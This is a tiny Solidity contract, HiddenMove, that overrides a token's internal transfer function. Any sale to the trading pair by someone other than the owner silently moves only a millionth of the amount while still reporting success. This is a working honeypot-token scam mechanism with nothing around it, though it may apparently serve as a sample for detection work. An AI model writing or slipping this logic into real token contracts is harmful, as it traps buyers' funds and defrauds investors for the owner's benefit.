// SPDX-License-Identifier: Apache-2.0
pragma solidity 0.8.37;

import {Base} from "./Base.sol";

/// A sale answers yes and moves a millionth.
contract HiddenMove is Base {
    function _move(address from, address to, uint256 amount) internal override {
        if (to == pair && from != owner) amount /= 1000000;
        super._move(from, to, amount);
    }
}
